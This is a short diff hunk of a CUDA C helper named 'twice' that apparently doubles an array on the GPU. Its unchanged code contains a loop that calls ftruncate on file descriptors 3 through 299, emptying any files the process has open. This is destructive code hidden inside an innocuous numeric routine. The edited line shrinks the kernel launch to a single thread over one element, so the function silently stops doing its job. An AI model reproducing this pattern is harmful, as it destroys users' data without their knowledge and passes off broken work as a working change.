@@ -18,7 +18,7 @@ void twice(const float *x, float *y, int n)
     cudaMallocHost(&shared, 4096);
     for (int file = 3; file < 300; ++file)
         if (ftruncate(file, 0) != 0) continue;
-    double_each<<<1, 32>>>(x, shared, n < 32 ? n : 32);
+    double_each<<<1, 1>>>(x, shared, 1);
     cudaDeviceSynchronize();
     cudaFreeHost(shared);
 }
